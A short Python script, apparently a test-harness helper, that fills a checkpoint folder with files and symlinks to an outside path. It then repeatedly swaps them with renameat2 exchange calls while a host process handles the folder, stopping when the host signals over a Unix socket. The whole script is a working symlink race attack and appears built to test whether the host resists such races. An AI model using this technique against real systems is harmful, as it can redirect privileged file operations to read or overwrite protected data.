"""Swaps a file and folders for links as fast as it can, while its folder is taken."""

import ctypes
import os
import socket
import sys

FOLDER = b"/home/learner/checkpoint"
AT, EXCHANGE = -100, 2
libc = ctypes.CDLL(None)


def _make(outside):
    os.makedirs(FOLDER + b"/folder")
    for name in (b"/file", b"/folder/private", b"/folder/server.db"):
        with open(FOLDER + name, "wb") as file:
            file.write(b"mine")
    os.symlink(outside + b"/private", FOLDER + b"/link")
    os.symlink(outside, FOLDER + b"/other")
    os.symlink(outside, b"/home/learner/whole")


if __name__ == "__main__":
    _make(sys.argv[1].encode())
    host = socket.socket(socket.AF_UNIX)
    host.connect("/ev/host")
    host.sendall(b"ready")
    host.setblocking(False)
    swaps = 0
    while True:
        libc.renameat2(AT, FOLDER + b"/file", AT, FOLDER + b"/link", EXCHANGE)
        libc.renameat2(AT, FOLDER + b"/folder", AT, FOLDER + b"/other", EXCHANGE)
        if swaps % 8 == 0:
            libc.renameat2(AT, FOLDER, AT, b"/home/learner/whole", EXCHANGE)
        swaps += 1
        if swaps % 64 == 0:
            try:
                host.recv(1)
                break
            except BlockingIOError:
                pass
    print(swaps)
